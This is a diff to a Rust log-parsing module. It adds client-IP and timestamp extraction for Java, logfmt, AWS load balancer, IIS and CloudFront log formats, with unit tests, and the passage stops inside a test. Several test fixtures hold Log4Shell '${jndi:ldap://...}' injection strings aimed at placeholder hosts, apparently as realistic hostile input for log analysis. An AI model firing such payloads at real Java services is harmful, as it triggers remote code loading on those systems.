@@ -13,6 +13,11 @@
 //! | [`Layout::JsonLines`] | `{"@timestamp":"2021-12-10T12:00:00Z","remote_addr":"1.2.3.4",…}` | see below | see below |
 //! | [`Layout::Syslog3164`] | `<34>Oct 11 22:14:15 host app[12]: msg` (`<PRI>` optional; rsyslog's RFC 3339 stamp too) | from the message | `year_hint`, **taken as UTC** |
 //! | [`Layout::Syslog5424`] | `<34>1 2003-10-11T22:14:15.003Z host app 123 ID47 [sd] msg` | from the message | the header's |
+//! | [`Layout::JavaApp`] | `2021-12-26 17:46:40,080 [main] INFO c.e.App - msg` (Logback, Log4j, Spring Boot; `T` and a zone allowed), `10-Dec-2021 10:00:00.123 INFO [main] …` (Tomcat), `17:46:40.080 [main] DEBUG …` (no date) | a client key in the message, see below | the stamp; **no zone is taken as UTC** |
+//! | [`Layout::Logfmt`] | `time="2021-12-10T10:00:00Z" level=info client_ip=198.51.100.2 msg="…"` | the JSON reader's client keys, and Heroku's `fwd` | the JSON reader's time keys |
+//! | [`Layout::AwsLoadBalancer`] | `https 2021-12-10T10:00:00.123456Z app/lb/50dc… 203.0.113.9:2817 10.0.0.1:80 0.000 …` (ALB; Classic ELB without the type) | the field after the balancer's name (port dropped) | the first field |
+//! | [`Layout::Iis`] | `2021-12-10 10:00:00 10.0.0.5 GET /index.html - 443 - 203.0.113.7 Mozilla/5.0+… - 200 0 0 15` (IIS's default fields; IIS 6's `s-sitename` first too) | `c-ip`, the 9th field (10th after a site name) | date and time, UTC (IIS logs in UTC) |
+//! | [`Layout::CloudFront`] | `2021-12-10⇥10:00:00⇥LHR62-C2⇥2390⇥203.0.113.10⇥GET⇥…` (standard log, tab-separated) | `c-ip`, the 5th field | date and time, UTC |
 //!
 //! JSON lines: the address comes from the first of `remote_addr`,
 //! `remote_ip`, `client_ip`, `clientip`, `client`, `src_ip`, `source_ip`,
@@ -24,19 +29,41 @@
 //! `date`, `time_iso8601`, `time_local`: RFC 3339 / ISO 8601 strings (no
 //! zone means UTC), access-log stamps, or epoch numbers (seconds,
 //! milliseconds, microseconds or nanoseconds, told apart by magnitude). A
-//! `log`, `message` or `msg` string that is itself an access or error log
-//! line (Docker's json-file driver) gives what the fields do not.
+//! `log`, `message` or `msg` string that is itself an access, error or Java
+//! application log line (Docker's json-file driver) gives what the fields do
+//! not.
 //!
-//! Syslog messages that are themselves access, error or JSON lines (nginx and
-//! httpd logging through syslog) give that inner line's address, and its
-//! time when it has one (it carries a year and a zone). Other messages give
-//! the address of sshd's `… from ADDR port N`, PAM's `rhost=ADDR` or a
-//! netfilter `SRC=ADDR`.
+//! Syslog messages that are themselves access, error, JSON or logfmt lines
+//! (nginx and httpd logging through syslog, Heroku's router) give that inner
+//! line's address, and its time when it has one (it carries a year and a
+//! zone). Other messages give the address of sshd's `… from ADDR port N`,
+//! PAM's `rhost=ADDR` or a netfilter `SRC=ADDR`.
+//!
+//! Java application logs: a line is one when a level (`TRACE`, `DEBUG`,
+//! `INFO`, `WARN`, `WARNING`, `ERROR`, `FATAL`, and java.util.logging's
+//! `SEVERE`, `CONFIG`, `FINE`, `FINER`, `FINEST`; bare or in brackets)
+//! follows the stamp, possibly after a `[thread]`. The address comes only
+//! from a client key of the JSON reader's written into the message as
+//! `key=value`, `key: value` or `"key":"value"` (`remote_addr=192.0.2.1`,
+//! `{clientIp=192.0.2.1, user=x}` as an MDC prints, `X-Forwarded-For:
+//! 192.0.2.1, 10.0.0.1`); the key must start the message or follow a blank,
+//! a quote or one of `,;([{|` (a query string's `?ip=` does not count), the
+//! best ranked key wins as in JSON, and a bare address is never taken. The
+//! message is free text, so an address found there is only as good as what
+//! the application wrote next to it.
+//!
+//! Order: a line that starts with `key=` (which no other layout does) is
+//! tried as logfmt first; then the JSON and web server layouts, as before
+//! the others were added; then the Java, load balancer, IIS and CloudFront
+//! layouts, chosen by their first bytes so that a line pays for one or two
+//! of them at most; then syslog, whose ISO-dated form would otherwise take
+//! Java and Classic ELB lines.
 //!
 //! Parsing never fails and never panics: an unknown or mangled line gives
 //! an empty or partial context. Header fields are looked for in the first
-//! [`HEADER_SCAN`] bytes; the searches that go further are single linear
-//! passes, so hostile lines of any size cost time linear in their length.
+//! [`HEADER_SCAN`] bytes; the searches that go further (messages, logfmt
+//! pairs, IIS fields past a long URI) are single linear passes, so hostile
+//! lines of any size cost time linear in their length.
 //! A caller may pass a bounded prefix of a huge line and gets whatever that
 //! prefix shows (a truncated JSON object keeps the fields it got through).
 
@@ -76,6 +103,17 @@ pub enum Layout {
     Syslog3164,
     /// Syslog, RFC 5424.
     Syslog5424,
+    /// A Java application log: Logback, Log4j, Spring Boot, Tomcat's
+    /// `catalina.out`.
+    JavaApp,
+    /// logfmt: `key=value` pairs (Go, Heroku).
+    Logfmt,
+    /// AWS Application or Classic Load Balancer access log.
+    AwsLoadBalancer,
+    /// IIS W3C extended log with IIS's default fields.
+    Iis,
+    /// Amazon CloudFront standard log.
+    CloudFront,
 }
 
 /// The context of one log line (without its line terminator). Never fails:
@@ -86,7 +124,12 @@ pub fn line_context(line: &[u8], year_hint: i16) -> LineContext {
     match line.first() {
         Some(b'<') => syslog(line, year_hint),
         Some(_) => {
-            if let Some(ctx) = direct(line) {
+            if let Some(ctx) = direct_or_logfmt(line) {
+                return ctx;
+            }
+            // Before syslog: its ISO-dated form would take Java and Classic
+            // ELB lines.
+            if let Some(ctx) = service(line) {
                 return ctx;
             }
             if starts_with_month(line) || starts_with_iso_datetime(line) {
@@ -118,6 +161,18 @@ fn direct(line: &[u8]) -> Option<LineContext> {
         b'{' => json(line),
         _ => web_server(line),
     }
+}
+
+/// [`direct`], or logfmt, tried first when the line starts with `key=`
+/// (which no other layout does): an access line in a logfmt `msg` would
+/// otherwise be taken for the line itself.
+fn direct_or_logfmt(line: &[u8]) -> Option<LineContext> {
+    if logfmt_start(line) {
+        if let Some(ctx) = logfmt(line) {
+            return Some(ctx);
+        }
+    }
+    direct(line)
 }
 
 /// The error logs and the access log.
@@ -629,6 +684,453 @@ fn apache_error(line: &[u8]) -> Option<LineContext> {
 }
 
 // ---------------------------------------------------------------------------
+// Application and service logs: Java, logfmt, AWS load balancers, IIS,
+// CloudFront.
+
+/// The layouts tried after the web server, JSON and logfmt ones, chosen by
+/// the first bytes: a date (`YYYY-MM-DD` then a tab, a blank or `T`),
+/// Tomcat's `DD-Mon-YYYY`, a bare clock, or an ALB request type.
+fn service(line: &[u8]) -> Option<LineContext> {
+    let head = &line[..line.len().min(HEADER_SCAN)];
+    match *head.first()? {
+        b'0'..=b'9' => {
+            if head.len() > 10 && head[4] == b'-' && head[7] == b'-' {
+                match head[10] {
+                    b'\t' => cloudfront(head),
+                    b' ' => iis(line).or_else(|| java(line)),
+                    b'T' | b't' => java(line).or_else(|| load_balancer(head)),
+                    _ => None,
+                }
+            } else if head.get(2) == Some(&b'-') {
+                tomcat(line)
+            } else if head.get(2) == Some(&b':') {
+                java_clock(line)
+            } else {
+                None
+            }
+        }
+        b'a'..=b'z' | b'A'..=b'Z' | b'@' | b'_' => alb(head),
+        _ => None,
+    }
+}
+
+/// `YYYY-MM-DD`.
+fn date(c: &mut Cur<'_>) -> Option<(u32, u32, u32)> {
+    let y = c.digits(4, 4)?;
+    c.eat(b'-')?;
+    let mo = c.digits(2, 2)?;
+    c.eat(b'-')?;
+    let d = c.digits(2, 2)?;
+    Some((y, mo, d))
+}
+
+/// A request method as IIS and CloudFront log it: `GET`, `PROPFIND`,
+/// `VERSION-CONTROL`.
+fn is_method(s: &[u8]) -> bool {
+    (1..=24).contains(&s.len())
+        && s.iter()
+            .all(|b| b.is_ascii_uppercase() || matches!(b, b'-' | b'_'))
+}
+
+/// The first `N` fields of `s` split at `sep` (empty where there are fewer).
+/// Lazy: reads no further than the `N`th separator.
+fn fields<const N: usize>(s: &[u8], sep: u8) -> [&[u8]; N] {
+    let mut out: [&[u8]; N] = [b""; N];
+    for (slot, field) in out.iter_mut().zip(s.split(|&b| b == sep)) {
+        *slot = field;
+    }
+    out
+}
+
+// Java application logs.
+
+/// The levels Log4j, Logback and java.util.logging write.
+const LEVELS: [&[u8]; 12] = [
+    b"TRACE", b"DEBUG", b"INFO", b"WARN", b"WARNING", b"ERROR", b"FATAL", b"SEVERE", b"CONFIG",
+    b"FINE", b"FINER", b"FINEST",
+];
+
+/// `YYYY-MM-DD[ T]HH:MM:SS[.,]fff[zone] …LEVEL …` (Logback's and Log4j's
+/// `%d`, `%d{ISO8601}`, Spring Boot). No zone means UTC.
+fn java(line: &[u8]) -> Option<LineContext> {
+    let mut c = Cur::new(line);
+    let ts = iso8601(&mut c, false)?;
+    java_rest(c, Some(ts))
+}
+
+/// Tomcat's `catalina.out`: `10-Dec-2021 10:00:00.123 INFO [main] …`, local
+/// time without a zone: taken as UTC.
+fn tomcat(line: &[u8]) -> Option<LineContext> {
+    let mut c = Cur::new(line);
+    let d = c.digits(1, 2)?;
+    c.eat(b'-')?;
+    let mo = month(c.rest())?;
+    c.i += 3;
+    c.eat(b'-')?;
+    let y = c.digits(4, 4)?;
+    c.eat(b' ')?;
+    let t = clock(&mut c, b".,")?;
+    let ts = instant((y, u32::try_from(mo).ok()?, d), t, 0);
+    java_rest(c, ts)
+}
+
+/// `HH:MM:SS.fff [thread] LEVEL …` (Logback's default pattern): no date, so
+/// no time.
+fn java_clock(line: &[u8]) -> Option<LineContext> {
+    let mut c = Cur::new(line);
+    clock(&mut c, b".,")?;
+    java_rest(c, None)
+}
+
+/// After the stamp: blanks, an optional `[thread]`, blanks, the level, the
+/// message.
+fn java_rest(mut c: Cur<'_>, ts: Option<Timestamp>) -> Option<LineContext> {
+    blanks(&mut c)?;
+    if !level(&mut c) {
+        c.eat(b'[')?;
+        c.until(b']', 256)?;
+        c.i += 1;
+        blanks(&mut c)?;
+        if !level(&mut c) {
+            return None;
+        }
+    }
+    Some(ctx(Layout::JavaApp, kv_ip(c.rest()), ts))
+}
+
+/// One to 16 blanks (Spring Boot pads the level on the left).
+fn blanks(c: &mut Cur<'_>) -> Option<()> {
+    let n = c
+        .rest()
+        .iter()
+        .take(16)
+        .take_while(|b| matches!(b, b' ' | b'\t'))
+        .count();
+    c.i += n;
+    (n > 0).then_some(())
+}
+
+/// A level, bare or in brackets, followed by a blank, `:` or the end. The
+/// cursor moves past it only when there is one.
+fn level(c: &mut Cur<'_>) -> bool {
+    let save = c.i;
+    let bracket = c.eat_if(b'[');
+    let rest = c.rest();
+    let n = rest
+        .iter()
+        .take(8)
+        .take_while(|b| b.is_ascii_uppercase())
+        .count();
+    let ok = LEVELS.contains(&&rest[..n])
+        && {
+            c.i += n;
+            !bracket || c.eat_if(b']')
+        }
+        && matches!(c.peek(), None | Some(b' ' | b'\t' | b':'));
+    if !ok {
+        c.i = save;
+    }
+    ok
+}
+
+fn is_key_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'@')
+}
+
+/// The client address an application wrote into free text as `key=value`,
+/// `key: value` or `"key":"value"`, for the JSON reader's client keys
+/// (ranked as there; the first of equal rank wins). One pass over the
+/// text; each `=` or `:` costs a bounded look either side.
+fn kv_ip(msg: &[u8]) -> Option<IpAddr> {
+    let mut best: Option<(u8, IpAddr)> = None;
+    for at in memchr::memchr2_iter(b'=', b':', msg) {
+        let Some(rank) = kv_key(&msg[..at]) else {
+            continue;
+        };
+        if best.is_some_and(|(r, _)| r <= rank) {
+            continue;
+        }
+        if let Some(ip) = kv_value(&msg[at + 1..]) {
+            best = Some((rank, ip));
+        }
+    }
+    best.map(|(_, ip)| ip)
+}
+
+/// The rank of the client key that ends `before` (the text up to a `=` or
+/// `:`), when there is one that starts the text or follows a blank, a quote
+/// or one of `,;([{|`. A quoted key needs its opening quote.
+fn kv_key(before: &[u8]) -> Option<u8> {
+    let (end, quote) = match before.last() {
+        Some(&q @ (b'"' | b'\'')) => (before.len() - 1, Some(q)),
+        _ => (before.len(), None),
+    };
+    let n = before[..end]
+        .iter()
+        .rev()
+        .take(33)
+        .take_while(|&&b| is_key_byte(b))
+        .count();
+    if n == 0 || n > 32 {
+        return None;
+    }
+    let mut start = end - n;
+    if let Some(q) = quote {
+        start = start.checked_sub(1)?;
+        if before[start] != q {
+            return None;
+        }
+    }
+    let delimited = start.checked_sub(1).is_none_or(|i| {
+        matches!(
+            before[i],
+            b' ' | b'\t' | b',' | b';' | b'(' | b'[' | b'{' | b'|' | b'"' | b'\''
+        )
+    });
+    if !delimited {
+        return None;
+    }
+    let start = if quote.is_some() { start + 1 } else { start };
+    let key = std::str::from_utf8(&before[start..end]).ok()?;
+    match role(Scope::Top, key) {
+        Role::Ip(r) | Role::IpOrObject(r, _) | Role::Forwarded(r) => Some(r),
+        _ => None,
+    }
+}
+
+/// The address that starts a value: after an optional blank and quote, a
+/// bare or bracketed address with an optional port, ending where an address
+/// can (a list's `,`, a blank, a quote…). `10.0.0.0/8` or `1.2.3.4x` are not
+/// addresses.
+fn kv_value(v: &[u8]) -> Option<IpAddr> {
+    let v = v.strip_prefix(b" ").unwrap_or(v);
+    let v = v
+        .strip_prefix(b"\"")
+        .or_else(|| v.strip_prefix(b"'"))
+        .unwrap_or(v);
+    let n = if v.first() == Some(&b'[') {
+        let close = v.iter().take(48).position(|&b| b == b']')?;
+        close
+            + 1
+            + v[close + 1..]
+                .iter()
+                .take(6)
+                .take_while(|b| b.is_ascii_digit() || **b == b':')
+                .count()
+    } else {
+        v.iter()
+            .take(64)
+            .take_while(|b| b.is_ascii_hexdigit() || matches!(b, b'.' | b':'))
+            .count()
+    };
+    if v.get(n)
+        .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'_' | b'%' | b'-'))
+    {
+        return None;
+    }
+    let mut tok = &v[..n];
+    while let [rest @ .., b':' | b'.'] = tok {
+        tok = rest;
+    }
+    parse_ip(tok)
+}
+
+// logfmt.
+
+/// `key=value key="quoted \"value\"" flag …` (Go's logfmt, logrus, go-kit,
+/// Heroku). The line must start with an identifier and `=`, and hold at
+/// least two pairs, one of them with a key we know (a time or client key,
+/// `msg`, `level`, `lvl`, `severity`, Heroku's `at`). One pass, to the end
+/// of the line or the first byte that breaks the syntax; an unterminated
+/// quoted value (a truncated line) is dropped.
+fn logfmt(line: &[u8]) -> Option<LineContext> {
+    if !logfmt_start(line) {
+        return None;
+    }
+    let mut found = Found::default();
+    let (mut pairs, mut known) = (0usize, false);
+    let mut c = Cur::new(line);
+    loop {
+        while matches!(c.peek(), Some(b' ' | b'\t')) {
+            c.i += 1;
+        }
+        let start = c.i;
+        while c.peek().is_some_and(|b| b > b' ' && b != b'=' && b != b'"') {
+            c.i += 1;
+        }
+        let key = &line[start..c.i];
+        if key.is_empty() {
+            // The end, or `=` or `"` where a key belongs.
+            break;
+        }
+        if !c.eat_if(b'=') {
+            // A key without a value.
+            continue;
+        }
+        let value = if c.eat_if(b'"') {
+            let from = c.i;
+            loop {
+                match c.peek() {
+                    None => break None,
+                    Some(b'\\') => c.i += 2,
+                    Some(b'"') => {
+                        c.i += 1;
+                        break line.get(from..c.i - 1);
+                    }
+                    Some(_) => c.i += 1,
+                }
+            }
+        } else {
+            let from = c.i;
+            while c.peek().is_some_and(|b| b > b' ') {
+                c.i += 1;
+            }
+            line.get(from..c.i)
+        };
+        let Some(value) = value else {
+            break;
+        };
+        pairs += 1;
+        known |= logfmt_pair(&mut found, key, value);
+    }
+    if pairs < 2 || !known {
+        return None;
+    }
+    let ip = found.ip.map(|(_, ip)| ip).or(found.inner.source_ip);
+    let ts = found.ts.map(|(_, ts)| ts).or(found.inner.timestamp);
+    Some(ctx(Layout::Logfmt, ip, ts))
+}
+
+/// Whether the line starts with an identifier (of at most 64 bytes) and
+/// `=`.
+fn logfmt_start(line: &[u8]) -> bool {
+    let Some(&first) = line.first() else {
+        return false;
+    };
+    if !(first.is_ascii_alphabetic() || matches!(first, b'@' | b'_')) {
+        return false;
+    }
+    let n = line
+        .iter()
+        .take(64)
+        .take_while(|&&b| is_key_byte(b))
+        .count();
+    line.get(n) == Some(&b'=')
+}
+
+/// Offers one pair's value; whether the key is one we know. A quoted value
+/// is taken raw: addresses and times hold no escapes, and an inner access
+/// line's escaped quotes come after the part that is read.
+fn logfmt_pair(found: &mut Found, key: &[u8], value: &[u8]) -> bool {
+    let Ok(key) = std::str::from_utf8(key) else {
+        return false;
+    };
+    let first = |v: &[u8]| parse_ip(v.split(|&b| b == b',').next().unwrap_or_default());
+    match role(Scope::Top, key) {
+        Role::Ip(r) | Role::IpOrObject(r, _) => found.offer_ip(r, parse_ip(value)),
+        Role::Forwarded(r) => found.offer_ip(r, first(value)),
+        Role::Time(r) => found.offer_ts(r, text_time(value)),
+        Role::Message => {
+            if found.inner.layout.is_none() {
+                if let Some(inner) = web_server(trim_line(value)) {
+                    found.inner = inner;
+                }
+            }
+        }
+        // Heroku's router: `fwd="203.0.113.1"`, its X-Forwarded-For.
+        Role::Ignore if key.eq_ignore_ascii_case("fwd") => found.offer_ip(8, first(value)),
+        Role::Ignore | Role::Object(_) => {
+            return ["level", "lvl", "severity", "at"]
+                .iter()
+                .any(|k| key.eq_ignore_ascii_case(k));
+        }
+    }
+    true
+}
+
+// AWS load balancers.
+
+/// The request types an ALB log line starts with.
+const ALB_TYPES: [&[u8]; 6] = [b"http", b"https", b"h2", b"grpcs", b"ws", b"wss"];
+
+/// ALB: `type time elb client:port target:port request_processing_time …`.
+fn alb(head: &[u8]) -> Option<LineContext> {
+    let sp = head.iter().take(6).position(|&b| b == b' ')?;
+    if !ALB_TYPES.contains(&&head[..sp]) {
+        return None;
+    }
+    load_balancer(&head[sp + 1..])
+}
+
+/// Classic ELB, and ALB after its type: `time elb client:port
+/// backend:port|- request_processing_time …`, the time in UTC. The
+/// fields after the client are checked so that an rsyslog line (`time host
+/// tag: …`) is not taken for one.
+fn load_balancer(head: &[u8]) -> Option<LineContext> {
+    let mut c = Cur::new(head);
+    let ts = iso8601(&mut c, false)?;
+    c.eat(b' ')?;
+    let [name, client, backend, took] = fields::<4>(c.rest(), b' ');
+    let seconds = took.strip_prefix(b"-").unwrap_or(took);
+    if name.is_empty()
+        || !(backend == b"-" || parse_ip_port(backend).is_some())
+        || seconds.first().is_none_or(|b| !b.is_ascii_digit())
+        || !seconds.iter().all(|b| b.is_ascii_digit() || *b == b'.')
+    {
+        return None;
+    }
+    let ip = parse_ip_port(client)?;
+    Some(ctx(Layout::AwsLoadBalancer, Some(ip), Some(ts)))
+}
+
+// IIS and CloudFront.
+
+/// IIS W3C extended log with IIS's default fields: `date time s-ip
+/// cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip …` (or IIS
+/// 6's `s-sitename` before `s-ip`). IIS logs in UTC. IIS writes `+` for
+/// blanks inside fields, so the fields are found by blanks; they are read
+/// lazily, past [`HEADER_SCAN`] when the URI is long.
+fn iis(line: &[u8]) -> Option<LineContext> {
+    let mut c = Cur::new(line);
+    let ymd = date(&mut c)?;
+    c.eat(b' ')?;
+    let t = clock(&mut c, b"")?;
+    c.eat(b' ')?;
+    let f = fields::<8>(c.rest(), b' ');
+    let at = if parse_ip(f[0]).is_some() && is_method(f[1]) {
+        6
+    } else if !f[0].is_empty() && parse_ip(f[1]).is_some() && is_method(f[2]) {
+        7
+    } else {
+        return None;
+    };
+    Some(ctx(Layout::Iis, parse_ip(f[at]), instant(ymd, t, 0)))
+}
+
+/// CloudFront standard log: `date⇥time⇥x-edge-location⇥sc-bytes⇥c-ip⇥
+/// cs-method⇥…`, in UTC.
+fn cloudfront(head: &[u8]) -> Option<LineContext> {
+    let mut c = Cur::new(head);
+    let ymd = date(&mut c)?;
+    c.eat(b'\t')?;
+    let t = clock(&mut c, b"")?;
+    c.eat(b'\t')?;
+    let [edge, bytes, client, method] = fields::<4>(c.rest(), b'\t');
+    if edge.is_empty()
+        || bytes.is_empty()
+        || !bytes.iter().all(u8::is_ascii_digit)
+        || !is_method(method)
+    {
+        return None;
+    }
+    Some(ctx(
+        Layout::CloudFront,
+        parse_ip(client),
+        instant(ymd, t, 0),
+    ))
+}
+
+// ---------------------------------------------------------------------------
 // Syslog.
 
 /// RFC 5424 when `<PRI>1 ` starts the line, else RFC 3164 (with or without
@@ -738,11 +1240,11 @@ fn syslog5424(mut c: Cur<'_>) -> Option<LineContext> {
     ))
 }
 
-/// What a syslog message says: an inner access, error or JSON line, else
+/// What a syslog message says: an inner access, error, JSON or logfmt line, else
 /// sshd's `from ADDR port`, PAM's `rhost=ADDR` or netfilter's `SRC=ADDR`.
 fn message_context(msg: &[u8]) -> LineContext {
     let msg = trim_line(msg);
-    if let Some(inner) = direct(msg) {
+    if let Some(inner) = direct_or_logfmt(msg) {
         if inner.source_ip.is_some() || inner.timestamp.is_some() {
             return inner;
         }
@@ -1000,7 +1502,8 @@ impl<'de> Visitor<'de> for Value<'_> {
             }
             Role::Time(rank) => self.found.offer_ts(rank, text_time(s.as_bytes())),
             Role::Message if self.found.inner.layout.is_none() => {
-                if let Some(inner) = web_server(trim_line(s.as_bytes())) {
+                let line = trim_line(s.as_bytes());
+                if let Some(inner) = web_server(line).or_else(|| service(line)) {
                     self.found.inner = inner;
                 }
             }
@@ -1266,6 +1769,22 @@ mod tests {
     }
 
     #[test]
+    fn json_docker_log_wraps_a_java_line() {
+        check(
+            r#"{"log":"2021-12-10 13:55:36.250  WARN 1 --- [nio-8080-exec-1] c.e.Api : bad token {clientIp=192.0.2.31}\n","stream":"stdout","time":"2021-12-10T13:55:36.5Z"}"#,
+            Layout::JsonLines,
+            v4(192, 0, 2, 31),
+            Some("2021-12-10T13:55:36.5Z"),
+        );
+        check(
+            r#"{"log":"10-Dec-2021 10:00:00.123 INFO [main] o.a.c.Catalina.start x\n"}"#,
+            Layout::JsonLines,
+            None,
+            Some("2021-12-10T10:00:00.123Z"),
+        );
+    }
+
+    #[test]
     fn json_truncated_keeps_fields_seen() {
         check(
             r#"{"remote_addr":"192.0.2.5","message":"${jndi:ldap://"#,
@@ -1367,13 +1886,298 @@ mod tests {
     }
 
     #[test]
+    fn java_logback_log4j_spring_boot() {
+        // Logback / Log4j `%d`: no zone, taken as UTC.
+        check(
+            "2021-12-26 17:46:40,080 [http-nio-8080-exec-1] INFO  c.e.LoginController - login failed user=${jndi:ldap://203.0.113.5/a} remote_addr=192.0.2.20",
+            Layout::JavaApp,
+            v4(192, 0, 2, 20),
+            Some("2021-12-26T17:46:40.08Z"),
+        );
+        // Log4j 1 `%d %-5p [%t]`: the level first.
+        check(
+            "2021-12-26 17:46:40.080 WARN  [main] com.example.Api - bad header X-Forwarded-For: 198.51.100.21, 10.0.0.1",
+            Layout::JavaApp,
+            v4(198, 51, 100, 21),
+            Some("2021-12-26T17:46:40.08Z"),
+        );
+        // Spring Boot 2: the level padded on the left.
+        check(
+            "2021-12-10 12:00:00.123  WARN 1 --- [nio-8080-exec-1] c.e.Controller : ${jndi:ldap://203.0.113.141/a}",
+            Layout::JavaApp,
+            None,
+            Some("2021-12-10T12:00:00.123Z"),
+        );
+        // Spring Boot 3 with an offset; ISO 8601 with `Z`.
+        check(
+            "2021-12-26T17:46:40.080+01:00  INFO 4242 --- [           main] c.e.App : request {clientIp=192.0.2.22, user=bob}",
+            Layout::JavaApp,
+            v4(192, 0, 2, 22),
+            Some("2021-12-26T16:46:40.08Z"),
+        );
+        check(
+            "2021-12-26T17:46:40.080Z [main] [ERROR] c.e.App - payload {\"client_ip\":\"2001:db8::23\",\"ua\":\"x\"}",
+            Layout::JavaApp,
+            Some(IpAddr::V6(Ipv6Addr::new(
+                0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x23,
+            ))),
+            Some("2021-12-26T17:46:40.08Z"),
+        );
+    }
+
+    #[test]
+    fn java_tomcat_and_clock_only() {
+        check(
+            "10-Dec-2021 10:00:00.123 INFO [main] org.apache.catalina.startup.Catalina.start Server startup in [1234] milliseconds",
+            Layout::JavaApp,
+            None,
+            Some("2021-12-10T10:00:00.123Z"),
+        );
+        check(
+            "10-Dec-2021 10:00:01.5 SEVERE [http-nio-8080-exec-3] org.example.Filter.doFilter rejected ip: 192.0.2.24 uri=/?q=${jndi:dns://203.0.113.6/a}",
+            Layout::JavaApp,
+            v4(192, 0, 2, 24),
+            Some("2021-12-10T10:00:01.5Z"),
+        );
+        // Logback's default pattern has no date.
+        check(
+            "17:46:40.080 [main] DEBUG com.example.App - src_ip=[2001:db8::25]:443 ok",
+            Layout::JavaApp,
+            Some(IpAddr::V6(Ipv6Addr::new(
+                0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x25,
+            ))),
+            None,
+        );
+    }
+
+    #[test]
+    fn java_message_keys_only_where_delimited() {
+        let at = |msg: &str| {
+            let line = format!("2021-12-10 12:00:00,000 INFO c.e.A - {msg}");
+            let got = line_context(line.as_bytes(), 2021);
+            assert_eq!(got.layout, Some(Layout::JavaApp), "{line}");
+            got.source_ip
+        };
+        // Never a bare address, a query string's parameter, a network or
+        // a key that only ends like one.
+        assert_eq!(at("connect to 192.0.2.30 failed"), None);
+        assert_eq!(at("GET /?ip=192.0.2.31&x=1"), None);
+        assert_eq!(at("allow ip=10.0.0.0/8"), None);
+        assert_eq!(at("zip=192.0.2.32 myip=192.0.2.33"), None);
+        assert_eq!(at("ip=192.0.2.34x"), None);
+        assert_eq!(at("ip=-"), None);
+        // Quoted, at the start, at the end of a sentence.
+        assert_eq!(at("ip='192.0.2.35'"), v4(192, 0, 2, 35));
+        assert_eq!(at("remote_addr: 192.0.2.36."), v4(192, 0, 2, 36));
+        assert_eq!(at("(client 1) client: 192.0.2.37:5000"), v4(192, 0, 2, 37));
+        // The better key wins wherever it is; equal keys: the first.
+        assert_eq!(
+            at("ip=192.0.2.38 user=x remoteAddr=192.0.2.39"),
+            v4(192, 0, 2, 39)
+        );
+        assert_eq!(at("ip=192.0.2.40 ip=192.0.2.41"), v4(192, 0, 2, 40));
+        // A quoted key needs its opening quote.
+        assert_eq!(at("x\"ip\":\"192.0.2.42\""), None);
+        assert_eq!(at("{\"ip\": \"192.0.2.43\"}"), v4(192, 0, 2, 43));
+    }
+
+    #[test]
+    fn java_needs_a_level() {
+        for line in [
+            "2021-12-10 12:00:00,000 starting",
+            "2021-12-10 12:00:00,000 [main] starting",
+            "2021-12-10 12:00:00,000 INFORMATION x",
+            "2021-12-10 12:00:00,000 info x",
+            "10-Dec-2021 10:00:00.123 [main] x",
+            "17:46:40 hello",
+        ] {
+            assert_eq!(
+                line_context(line.as_bytes(), 2021),
+                LineContext::default(),
+                "{line}"
+            );
+        }
+        // An rsyslog host name is not a level: still syslog.
+        check(
+            "2021-12-10T12:00:00Z web-01 app[1]: INFO remote_addr=192.0.2.44",
+            Layout::Syslog3164,
+            None,
+            Some("2021-12-10T12:00:00Z"),
+        );
+    }
+
+    #[test]
+    fn logfmt_lines() {
+        check(
+            r#"time="2021-12-10T10:00:00Z" level=info client_ip=198.51.100.2 msg="GET /?q=${jndi:ldap://203.0.113.7/a} \"quoted\"""#,
+            Layout::Logfmt,
+            v4(198, 51, 100, 2),
+            Some("2021-12-10T10:00:00Z"),
+        );
+        check(
+            "ts=2021-12-10T10:00:00.123456789+01:00 caller=main.go:42 level=warn remote_addr=[2001:db8::3]:443",
+            Layout::Logfmt,
+            Some(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 3))),
+            Some("2021-12-10T09:00:00.123456789Z"),
+        );
+        // Heroku's router: `fwd` is the client.
+        check(
+            r#"at=info method=GET path="/?x=${jndi:ldap://203.0.113.8/a}" host=app.example.com request_id=8601b555 fwd="198.51.100.4, 10.1.2.3" dyno=web.1 connect=0ms service=7ms status=200 bytes=13 protocol=https"#,
+            Layout::Logfmt,
+            v4(198, 51, 100, 4),
+            None,
+        );
+        // Escaped quotes do not end a value; the better key wins.
+        check(
+            r#"@timestamp=1639130400 msg="say \"ip=192.0.2.5\" \\" ip=192.0.2.6 x_forwarded_for="192.0.2.7,10.0.0.1" remote_ip=192.0.2.8"#,
+            Layout::Logfmt,
+            v4(192, 0, 2, 8),
+            Some("2021-12-10T10:00:00Z"),
+        );
+        // A message that is an access line.
+        check(
+            r#"level=info msg="192.0.2.9 - - [10/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5""#,
+            Layout::Logfmt,
+            v4(192, 0, 2, 9),
+            Some("2021-12-10T10:00:00Z"),
+        );
+        // Truncated inside a quoted value: the pairs before it count.
+        check(
+            r#"level=error ip=192.0.2.10 msg="${jndi:ldap://"#,
+            Layout::Logfmt,
+            v4(192, 0, 2, 10),
+            None,
+        );
+    }
+
+    #[test]
+    fn logfmt_needs_two_pairs_and_a_known_key() {
+        for line in [
+            "level=info",
+            "a=b c=d e=f",
+            "msg=\"unterminated level=info",
+            "Level = info ip = 192.0.2.1",
+            "9a=b level=info",
+            "user=x \"level=info\"",
+        ] {
+            assert_eq!(
+                line_context(line.as_bytes(), 2021),
+                LineContext::default(),
+                "{line}"
+            );
+        }
+    }
+
+    #[test]
+    fn syslog_wrapping_logfmt() {
+        check(
+            r#"2021-12-10T10:00:00.000000+00:00 heroku[router]: at=info method=GET path="/" host=a.example.com fwd="203.0.113.11" status=200"#,
+            Layout::Syslog3164,
+            v4(203, 0, 113, 11),
+            Some("2021-12-10T10:00:00Z"),
+        );
+    }
+
+    #[test]
+    fn aws_load_balancers() {
+        check(
